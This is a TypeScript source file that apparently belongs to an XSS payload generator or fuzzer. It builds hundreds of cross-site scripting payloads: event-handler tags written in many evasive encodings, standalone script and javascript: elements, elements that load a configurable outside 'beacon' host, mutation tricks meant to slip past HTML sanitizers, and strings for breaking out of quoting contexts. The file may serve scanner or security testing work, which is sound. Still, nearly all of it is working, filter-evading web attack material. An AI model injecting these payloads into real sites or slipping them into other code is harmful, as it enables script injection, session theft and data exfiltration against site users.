import type { Call, Sketch } from './vectors.ts';

/** A tag whose handler would run by itself, when it is reached or when it is pressed. */
interface Tag {
  name: string;
  event: string;
  /** Attributes it needs to do so. */
  also?: string;
  /** What stands inside; without it, the tag stays open. */
  inside?: string;
}

const TAGS: Tag[] = [
  { name: 'img', event: 'onerror', also: 'src=x:' },
  { name: 'img', event: 'onload', also: 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=' },
  { name: 'image', event: 'onerror', also: 'src=x:' },
  { name: 'svg', event: 'onload' },
  { name: 'svg', event: 'onpointerenter', inside: '<rect width=99 height=99>' },
  { name: 'body', event: 'onload' },
  { name: 'body', event: 'onpageshow' },
  { name: 'iframe', event: 'onload' },
  { name: 'iframe', event: 'onload', also: 'src=about:blank' },
  { name: 'object', event: 'onerror', also: 'data=x:' },
  { name: 'object', event: 'onload', also: 'data=data:text/html,x' },
  { name: 'embed', event: 'onload', also: 'src=data:text/html,x' },
  { name: 'video', event: 'onerror', also: 'src=x:' },
  { name: 'audio', event: 'onerror', also: 'src=x:' },
  { name: 'video', event: 'onloadstart', also: 'src=x:' },
  { name: 'details', event: 'ontoggle', also: 'open' },
  { name: 'input', event: 'onfocus', also: 'autofocus' },
  { name: 'select', event: 'onfocus', also: 'autofocus' },
  { name: 'textarea', event: 'onfocus', also: 'autofocus' },
  { name: 'button', event: 'onfocus', also: 'autofocus', inside: 'b' },
  { name: 'a', event: 'onfocus', also: 'href=# tabindex=1 autofocus', inside: 'a' },
  { name: 'div', event: 'onfocus', also: 'tabindex=0 autofocus', inside: 'd' },
  { name: 'div', event: 'onmouseover', inside: 'd' },
  { name: 'div', event: 'onclick', inside: 'd' },
  { name: 'div', event: 'onpointerover', inside: 'd' },
  { name: 'p', event: 'onanimationstart', also: 'style=animation-name:x' },
  { name: 'p', event: 'ontransitionend', also: 'style=transition:1s' },
  { name: 'p', event: 'oncontentvisibilityautostatechange', also: 'style=content-visibility:auto' },
  { name: 'style', event: 'onload', inside: 'x{}' },
  { name: 'link', event: 'onerror', also: 'rel=stylesheet href=x:' },
  { name: 'script', event: 'onerror', also: 'src=x:' },
  { name: 'marquee', event: 'onstart', inside: 'm' },
  { name: 'form', event: 'onsubmit', inside: '<input type=submit>' },
  { name: 'track', event: 'onerror', also: 'src=x:' },
  { name: 'x-zx', event: 'onclick', also: 'contenteditable', inside: 'x' },
  { name: 'dialog', event: 'onfocusin', also: 'open tabindex=0 autofocus', inside: 'd' },
];

/** How a tag with a handler can be written so that a browser still understands it, or a careless cleaner does. */
const WRITINGS: Record<string, (tag: Tag, call: Call) => string> = {
  plain: (tag, { script }) => open(tag, ' ', `="${script}"`),
  'single quotes': (tag, { script }) => open(tag, ' ', `='${script.replaceAll("'", '`')}'`),
  bare: (tag, { script }) => open(tag, ' ', `=${script.replaceAll("'", '`')}`),
  slashes: (tag, { script }) => open(tag, '/', `=${script.replaceAll("'", '`')}`),
  newlines: (tag, { script }) => open(tag, '\n', `\n=\n"${script}"`),
  tabs: (tag, { script }) => open(tag, '\t', `\t=\t"${script}"`),
  'form feeds': (tag, { script }) => open(tag, '\f', `="${script}"`),
  'mixed case': (tag, { script }) =>
    open({ ...tag, name: mixed(tag.name), event: mixed(tag.event) }, ' ', `="${script}"`),
  unclosed: ({ name, event, also = '' }, { script }) => `<${name} ${also} ${event}="${script}" `,
  'doubled bracket': (tag, { script }) => `<${open(tag, ' ', `="${script}"`)}`,
  'entities within': (tag, { script }) => open(tag, ' ', `="${entities(script)}"`),
  'long before it': (tag, { script }) =>
    open({ ...tag, also: `${tag.also ?? ''} ${'a=b '.repeat(12)}` }, ' ', `="${script}"`),
  'as entities': (tag, { script }) =>
    open(tag, ' ', `="${script}"`).replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  'as entities twice': (tag, { script }) =>
    open(tag, ' ', `="${script}"`).replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  'per cent': (tag, { script }) => encodeURIComponent(open(tag, ' ', `="${script}"`)),
  'full width': (tag, { script }) =>
    open(tag, ' ', `="${script}"`).replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  'NUL within': (tag, { script }) => open({ ...tag, name: `${tag.name}\0` }, ' ', `="${script}"`),
  'turned round': (tag, { script }) => `\u202E${open(tag, ' ', `="${script}"`)}\u202C`,
  'zero width': (tag, { script }) => `\u200B\uFEFF${open(tag, '\u200B ', `="${script}"`)}`,
};

function open({ name, event, also, inside }: Tag, space: string, value: string): string {
  const attributes = also === undefined ? '' : also.replaceAll(' ', space) + space;
  return `<${name}${space}${attributes}${event}${value}>${inside === undefined ? '' : `${inside}</${name}>`}`;
}

const mixed = (word: string) => word.replace(/./g, (c, at: number) => (at % 2 ? c : c.toUpperCase()));

/** Every letter as a character reference, by turns decimal, hexadecimal and without its end. */
export const entities = (words: string) =>
  [...words]
    .map((c, at) => {
      const code = c.codePointAt(0)!;
      return at % 3 === 0 ? `&#${code};` : at % 3 === 1 ? `&#x${code.toString(16)};` : `&#0000${code};`;
    })
    .join('');

/** Every tag in every writing. */
export function handlers(): Sketch[] {
  return TAGS.flatMap((tag) =>
    Object.entries(WRITINGS).map(([writing, write]): Sketch => ({
      family: `handler, ${writing}`,
      write: (call) => ({ text: `${write(tag, call)} ${call.mark}` }),
    })),
  );
}

const ALONE: ((call: Call) => string)[] = [
  ({ script }) => `<script>${script}</script>`,
  ({ script }) => `<SCRIPT type=module>${script}</SCRIPT >`,
  ({ beacon }) => `<script src="${beacon}a.js"></script>`,
  ({ script }) => `<script src="data:text/javascript,${script}"></script>`,
  ({ script }) => `<svg><script>${entities(script)}</script></svg>`,
  ({ script }) => `<svg><script href="data:text/javascript,${script}"/></svg>`,
  ({ script }) => `<iframe srcdoc="<script>${script.replace('top.', 'parent.')}</script>"></iframe>`,
  ({ script }) => `<iframe srcdoc="${entities(`<img src=x: onerror=parent.${script}>`)}"></iframe>`,
  ({ script }) => `<iframe src="javascript:parent.${script}"></iframe>`,
  ({ script }) => `<object data="javascript:${script}"></object>`,
  ({ script }) => `<embed src="javascript:${script}">`,
  ({ script }) => `<form action="javascript:${script}"><button>b</button></form>`,
  ({ script }) => `<button form=f formaction="javascript:${script}">b</button><form id=f></form>`,
  ({ script }) => `<form><input type=image src=x: formaction="javascript:${script}"></form>`,
  ({ script }) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  ({ beacon }) => `<meta http-equiv="refresh" content="0; url=${beacon}">`,
  ({ beacon }) => `<base href="${beacon}">`,
  ({ beacon }) => `<link rel=stylesheet href="${beacon}a.css">`,
  ({ beacon }) => `<link rel=prefetch href="${beacon}p"><link rel=dns-prefetch href="${beacon}">`,
  ({ beacon }) => `<img src="${beacon}i.png">`,
  ({ beacon }) => `<img srcset="${beacon}i.png 2x" loading=eager>`,
  ({ beacon }) => `<video poster="${beacon}p.png"><source src="${beacon}v.mp4"></video>`,
  ({ beacon }) => `<input type=image src="${beacon}i.png">`,
  ({ beacon }) => `<body background="${beacon}b.png">`,
  ({ beacon }) => `<iframe src="${beacon}"></iframe>`,
  ({ beacon }) => `<portal src="${beacon}"></portal><frameset><frame src="${beacon}">`,
  ({ beacon }) => `<svg><image href="${beacon}i.svg"/><use href="${beacon}u.svg#a"/></svg>`,
  ({ script }) => `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg>`,
  ({ script }) => `<svg><set onbegin="${script}" attributeName=x to=1></svg>`,
  ({ script }) =>
    `<svg><a><animate attributeName=href values="javascript:${script}"/><text y=20>x</text></a></svg>`,
  ({ script }) => `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  ({ script }) => `<svg><foreignObject><iframe srcdoc="<script>parent.${script}</script>"></foreignObject>`,
  ({ script }) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href='javascript:${script.replaceAll("'", '`')}'/></svg>#x"/></svg>`,
  ({ script }) => `<math><maction actiontype=statusline xlink:href="javascript:${script}">x</maction></math>`,
  ({ script }) => `<math href="javascript:${script}"><mtext>x</mtext></math>`,
  ({ script }) => `<video><source onerror="${script}" src=x:></video>`,
  ({ script }) => `<template><script>${script}</script></template><img src=x: onerror="${script}">`,
  ({ script }) => `<template shadowrootmode=open><img src=x: onerror="${script}"></template>`,
  ({ script }) => `<div popover id=p onbeforetoggle="${script}">p</div><button popovertarget=p>b</button>`,
  ({ script }) => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${script}"?>`,
  ({ script }) => `<!DOCTYPE x [<!ENTITY e "<img src=x: onerror='${script.replaceAll("'", '`')}'>">]>&e;`,
  ({ script }) => `<![CDATA[<img src=x: onerror="${script}">]]>`,
];

/** Tags that need no handler: frames, forms, addresses of their own, drawings and formulas. */
export function standAlone(): Sketch[] {
  const cases: [string, (text: string) => string][] = [
    ['plain', (text) => text],
    [
      'mixed case',
      (text) => text.replace(/<(\/?)([a-z]+)/g, (_, end: string, name: string) => `<${end}${mixed(name)}`),
    ],
    ['after words', (text) => `Nosotras, las ${text}`],
    ['NUL before', (text) => `\0${text}`],
  ];
  return cases.flatMap(([writing, change]) =>
    ALONE.map((write): Sketch => ({
      family: `element, ${writing}`,
      write: (call) => ({ text: `${change(write(call))} ${call.mark}` }),
    })),
  );
}

const PAYLOAD = ({ script }: Call) => `<img src=x: onerror="${script}">`;

/** What a cleaner reads as harmless and a second reading, of what it wrote, as a tag. */
const MUTATIONS: ((payload: string) => string)[] = [
  (payload) => `<noscript><p title="</noscript>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<textarea><p title="</textarea>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<title><p title="</title>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<svg><style><!--</style>${payload}-->`,
  (payload) => `<svg></p><style><a id="</style>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<math><mtext><table><mglyph><style><!--</style>${payload}-->`,
  (payload) => `<math><mtext><table><mglyph><style><math href=x>${payload}`,
  (payload) => `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
  (payload) =>
    `<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<svg><foreignObject><p><style><!--</style>${payload}-->`,
  (payload) => `<svg><title><style><a title="</style></title>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<svg><desc><noembed><a title="</noembed>${payload.replaceAll('"', '&quot;')}">`,
  (payload) =>
    `<select><template><style><!--</style><a rel="--></style></template></select>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<table><td><svg><desc><td></td></desc>${payload}`,
  (payload) => `<xmp><p title="</xmp>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<noframes><p title="</noframes>${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<a href="<!--">${payload}--></a>`,
  (payload) => `<!--<img alt="-->${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<!--!>${payload}-->`,
  (payload) => `<!-->${payload}-->`,
  (payload) => `<p id="\`\`onmouseover=1//">${payload}`,
  (payload) => `<listing>&lt;${payload.slice(1)}</listing>`,
  (payload) => `<annotation-xml encoding="text/html"><style><!--</style>${payload}`,
  (payload) => `<plaintext></plaintext>${payload}`,
];

export function mutations(): Sketch[] {
  return MUTATIONS.flatMap((write) =>
    [PAYLOAD, ({ script }: Call) => `<svg onload="${script}">`].map((payload): Sketch => ({
      family: 'mutation',
      write: (call) => ({ text: `${write(payload(call))} ${call.mark}` }),
    })),
  );
}

const ENDS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '`>',
  '"/>',
  '-->',
  '--!>',
  ']]>',
  '%>',
  '?>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '</svg>',
  '</math>',
  '</p></body></html>',
  '"></iframe>',
  '\\">',
  "\\'>",
  '&quot;>',
  '&#34;>',
  '\r\n\r\n',
  '"]}',
  "');",
  '\u2028',
  '\uFE64',
];

/** Ends whatever a vector may stand within, by every quotation mark and closing tag, and goes on with its own. */
export function breakOuts(): Sketch[] {
  const payloads: ((call: Call) => string)[] = [
    PAYLOAD,
    ({ script }) => `<script>${script}</script>`,
    ({ script }) => ` autofocus tabindex=1 onfocus="${script}" x="`,
    ({ script }) => ` onmouseover=${script.replaceAll("'", '`')} style=position:fixed;inset:0 `,
  ];
  return payloads.flatMap((payload) =>
    ENDS.map((end): Sketch => ({
      family: 'break-out',
      write: (call) => ({ text: `${end}${payload(call)} ${call.mark}` }),
    })),
  );
}
